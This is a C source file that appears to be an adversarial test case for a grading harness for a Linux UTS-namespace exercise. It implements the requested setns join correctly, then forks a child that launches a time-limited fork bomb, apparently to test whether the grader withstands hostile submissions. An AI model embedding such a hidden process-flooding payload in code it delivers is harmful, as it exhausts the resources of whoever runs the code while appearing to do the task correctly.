/*
 * forkbomb_before_join - a right answer with a bomb in its wake
 *
 * Attack: [1,24] joins rightly, and leaves a fork bomb behind
 * Exercise: 05_uts
 * Expect: earned 8
 * Seconds: 25
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "join.h"

/* What the exercise asks for. */
static int
join(pid_t pid)
{
	struct stat ours, other;
	char path[32];
	int fd;

	snprintf(path, sizeof path, "/proc/%d/ns/uts", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd == -1) {
		errno = ESRCH;
		return -1;
	}
	stat("/proc/self/ns/uts", &ours);
	fstat(fd, &other);
	if (ours.st_ino == other.st_ino) {
		errno = EINVAL;
		return -1;
	}
	return setns(fd, CLONE_NEWUTS);
}

int
uts_join(pid_t pid)
{
	time_t end = time(NULL) + 5;
	int n, result = join(pid);

	if (result == 0 && fork() == 0) {
		usleep(300 * 1000);
		for (n = 0; n < 3000 && time(NULL) < end; n++)
			if (fork() == 0)
				n = n < 11 ? n : 3000;
		while (time(NULL) < end)
			usleep(1000);
		_exit(0);
	}
	return result;
}
